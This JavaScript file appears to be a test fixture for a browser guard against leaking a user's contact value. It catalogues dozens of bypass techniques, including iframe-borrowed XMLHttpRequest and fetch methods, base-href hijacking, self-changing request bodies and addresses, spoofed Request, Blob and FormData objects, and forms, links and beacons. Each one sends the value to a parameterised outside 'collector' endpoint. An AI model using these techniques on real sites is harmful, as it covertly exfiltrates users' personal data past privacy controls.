// Ways to have one thing judged and another sent. Without a guard each of `leaking` gets the value
// to the collector; `quiet` do not even then, and must not with it.
const stageTricks = (() => {
  const here = `${location.origin}/`;
  const post = (to, body, more) => fetch(`${to}/trick`, { method: 'POST', body, ...more }).catch(() => {});
  const freshFrame = () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame;
  };
  const base = document.createElement('base');
  /** From now on relative addresses are the collector's. */
  const turnTo = (to) => { base.href = `${to}/`; document.head.prepend(base); };
  const bytesOf = (text) => new TextEncoder().encode(text);
  const sent = (request) => new Promise((done) => { request.onloadend = () => done(); });
  const form = (value) => { const made = new FormData(); made.append('contact', value); return made; };
  const submitted = (document, to, value, properties) => {
    const made = Object.assign(document.createElement('form'), { action: `${to}/trick`, method: 'post', ...properties });
    made.append(Object.assign(document.createElement('input'), { name: 'contact', value }));
    document.body.append(made);
    return made;
  };
  const clicked = (tag, to, value, namespace = 'http://www.w3.org/1999/xhtml') => {
    const link = document.createElementNS(namespace, tag);
    link.setAttribute('href', `${to}/trick?contact=${encodeURIComponent(value)}`);
    link.setAttribute('target', '_blank');
    return link;
  };
  const click = (node) => node.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, view: window }));

  return {
    leaking: {
      'XMLHttpRequest, opened anew by its body': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', '/echo');
        try { request.send({ toString() { request.open('POST', `${to}/trick`); return value; } }); } catch { return; }
        return sent(request);
      },
      'XMLHttpRequest, opened by the method of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        freshFrame().contentWindow.XMLHttpRequest.prototype.open.call(request, 'POST', `${to}/trick?contact=${value}`);
        request.send('nothing');
        return sent(request);
      },
      'XMLHttpRequest, opened anew by the method of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', '/echo');
        freshFrame().contentWindow.XMLHttpRequest.prototype.open.call(request, 'POST', `${to}/trick`);
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, a header by the method of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        freshFrame().contentWindow.XMLHttpRequest.prototype.setRequestHeader.call(request, 'x-stage', value);
        request.send('nothing');
        return sent(request);
      },
      'XMLHttpRequest, sent by the method of a frame': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        freshFrame().contentWindow.XMLHttpRequest.prototype.send.call(request, value);
        return sent(request);
      },
      'XMLHttpRequest, the base changed as it opens': (value, to) => {
        const request = new XMLHttpRequest();
        turnTo(to);
        request.onreadystatechange = () => base.remove();
        request.open('POST', '/trick');
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, opened anew as it opens': (value, to) => {
        const request = new XMLHttpRequest();
        request.onreadystatechange = () => { request.onreadystatechange = null; request.open('POST', `${to}/trick`); };
        request.open('POST', '/echo');
        request.send(value);
        return sent(request);
      },
      'XMLHttpRequest, a header that is an object': (value, to) => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}/trick`);
        request.setRequestHeader('x-stage', { toString: () => value });
        request.send();
        return sent(request);
      },
      'fetch, the base changed by its options': (value, to) =>
        fetch('/trick', { method: 'POST', get body() { turnTo(to); return value; } }).catch(() => {}),
      'fetch, a form filled by its options': (value, to) => {
        const made = new FormData();
        return post(to, made, Object.defineProperty({}, 'signal', { enumerable: true, get() { made.append('contact', value); } }));
      },
      'fetch, a body that is an object': (value, to) => post(to, { toString: () => value }),
      'fetch, a body that is an array': (value, to) => post(to, [value]),
      'fetch, a body in an option of a prototype': (value, to) =>
        fetch(`${to}/trick`, Object.create({ method: 'POST', body: value })).catch(() => {}),
      'fetch, options in a proxy': (value, to) =>
        fetch(`${to}/trick`, new Proxy({}, { get: (_, name) => ({ method: 'POST', body: value })[name] })).catch(() => {}),
      'fetch, a header': (value, to) => post(to, 'nothing', { headers: { 'x-stage': value } }),
      'fetch, an address that is an object': (value, to) =>
        fetch({ toString: () => `${to}/trick?contact=${encodeURIComponent(value)}` }).catch(() => {}),
      'fetch, a request that lies about itself': (value, to) => {
        const request = new Request(`${to}/trick`, { method: 'POST', body: value });
        for (const name of ['url', 'method', 'body']) Object.defineProperty(request, name, { value: here });
        request.clone = request.text = request.arrayBuffer = () => new Request(here);
        Object.setPrototypeOf(request, Object.prototype);
        return fetch(request).catch(() => {});
      },
      'fetch, a request of a frame': (value, to) =>
        fetch(new (freshFrame().contentWindow.Request)(`${to}/trick`, { method: 'POST', body: value })).catch(() => {}),
      'fetch, a form that lies about itself': (value, to) => {
        const made = form(value);
        made.entries = made[Symbol.iterator] = made.forEach = function* () {};
        Object.setPrototypeOf(made, null);
        return post(to, made);
      },
      'fetch, bytes that lie about themselves': (value, to) => {
        const bytes = new (class extends Uint8Array {
          static get [Symbol.species]() { return Array; }
          get buffer() { return new ArrayBuffer(0); }
          get byteLength() { return 0; }
          get length() { return 0; }
        })(bytesOf(value));
        return post(to, bytes);
      },
      'fetch, a blob of a frame': (value, to) => post(to, new (freshFrame().contentWindow.Blob)([value])),
      'fetch, a blob of blobs': (value, to) => post(to, new Blob([new Blob([value.slice(0, 9)]), new Blob([value.slice(9)])])),
      'fetch, a slice of a blob': (value, to) => post(to, new Blob([`x${value}x`]).slice(1, -1)),
      'fetch, a blob of a response': async (value, to) => post(to, await new Response(value).blob()),
      'fetch, a blob of objects': (value, to) => post(to, new Blob([{ toString: () => value }])),
      'fetch, a file in a form': (value, to) => {
        const made = new FormData();
        made.append('file', new File([value], 'contact.txt'));
        return post(to, made);
      },
      'fetch, the name of a file in a form': (value, to) => {
        const made = new FormData();
        made.append('file', new File(['nothing'], value));
        return post(to, made);
      },
      'fetch, while an element of ours is taken over': (value, to) => {
        customElements.define('entre-nous-mark', class extends HTMLElement {
          connectedCallback() { fetch('/echo', { method: 'POST', body: 'nothing' }).catch(() => {}); }
        });
        const shown = document.querySelector('[data-contact-visibility]').cloneNode();
        shown.textContent = 'another.person@example.net';
        document.body.append(shown);
        return post(to, value);
      },
      'beacon, the base changed by its body': (value, to) => {
        navigator.sendBeacon('/trick', { toString() { turnTo(to); return value; } });
      },
      'beacon, a form': (value, to) => { navigator.sendBeacon(`${to}/trick`, form(value)); },
      'a fresh frame, fetch': (value, to) =>
        freshFrame().contentWindow.fetch(`${to}/trick`, { method: 'POST', body: value }).catch(() => {}),
      'a fresh frame, XMLHttpRequest': (value, to) => {
        const request = new (freshFrame().contentWindow.XMLHttpRequest)();
        request.open('POST', `${to}/trick`);
        request.send(value);
        return sent(request);
      },
      'a fresh frame, beacon': (value, to) => { freshFrame().contentWindow.navigator.sendBeacon(`${to}/trick`, value); },
      'a fresh frame in a fresh frame, fetch': (value, to) => {
        const outer = freshFrame();
        const inner = outer.contentDocument.createElement('iframe');
        outer.contentDocument.body.append(inner);
        return inner.contentWindow.fetch(`${to}/trick`, { method: 'POST', body: value }).catch(() => {});
      },
      'a fresh frame, form': (value, to) => { submitted(freshFrame().contentDocument, to, value).submit(); },
      'a fresh frame, form by requestSubmit()': (value, to) => { submitted(freshFrame().contentDocument, to, value).requestSubmit(); },
      'a fresh frame, form by the method of the page': (value, to) => {
        HTMLFormElement.prototype.submit.call(submitted(freshFrame().contentDocument, to, value));
      },
      'a fresh frame, link': (value, to) => {
        const { contentDocument } = freshFrame();
        const link = contentDocument.createElement('a');
        link.href = `${to}/trick?contact=${encodeURIComponent(value)}`;
        contentDocument.body.append(link);
        link.click();
      },
      'a form into a frame': (value, to) => {
        freshFrame().name = 'target';
        submitted(document, to, value, { target: 'target' }).submit();
      },
      'a form into a new window, form.submit()': (value, to) => { submitted(document, to, value, { target: '_blank' }).submit(); },
      'a form into a new window, requestSubmit()': (value, to) => { submitted(document, to, value, { target: '_blank' }).requestSubmit(); },
      'a link into a new window': (value, to) => {
        const link = clicked('a', to, value);
        document.body.append(link);
        click(link);
      },
      'a detached link into a new window': (value, to) => { click(clicked('a', to, value)); },
      'an area into a new window': (value, to) => {
        const area = clicked('area', to, value);
        document.body.append(area);
        click(area);
      },
      'an SVG link into a new window': (value, to) => {
        const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
        const link = clicked('a', to, value, svg.namespaceURI);
        svg.append(link);
        document.body.append(svg);
        click(link);
      },
    },
    quiet: {
      'fetch, an address that changes': (value, to) => {
        let times = 0;
        return fetch({ toString: () => `${to}/trick${(times += 1) > 1 ? `?contact=${encodeURIComponent(value)}` : ''}` }).catch(() => {});
      },
      'fetch, a body that changes': (value, to) => {
        let times = 0;
        return post(to, { toString: () => ((times += 1) > 1 ? value : 'nothing') });
      },
      'fetch, options that change': (value, to) => {
        let times = 0;
        return fetch(`${to}/trick`, { method: 'POST', get body() { return (times += 1) > 1 ? value : 'nothing'; } }).catch(() => {});
      },
      'fetch, bytes that change after the call': (value, to) => {
        const bytes = new Uint8Array(value.length);
        const answer = post(to, bytes);
        bytes.set(bytesOf(value));
        return answer;
      },
      'XMLHttpRequest, an address and a body that change': (value, to) => {
        let times = 0;
        const request = new XMLHttpRequest();
        request.open('POST', { toString: () => `${to}/trick${(times += 1) > 1 ? `?contact=${encodeURIComponent(value)}` : ''}` });
        let again = 0;
        request.send({ toString: () => ((again += 1) > 1 ? value : 'nothing') });
        return sent(request);
      },
      'beacon, an address and a body that change': (value, to) => {
        let times = 0;
        let again = 0;
        navigator.sendBeacon(
          { toString: () => `${to}/trick${(times += 1) > 1 ? `?contact=${encodeURIComponent(value)}` : ''}` },
          { toString: () => ((again += 1) > 1 ? value : 'nothing') });
      },
      'beacon, of a frame that is gone': (value, to) => {
        const frame = freshFrame();
        const { navigator } = frame.contentWindow;
        const send = navigator.sendBeacon;
        frame.remove();
        try { send.call(navigator, `${to}/trick`, value); } catch { /* as the native may */ }
      },
    },
  };
})();
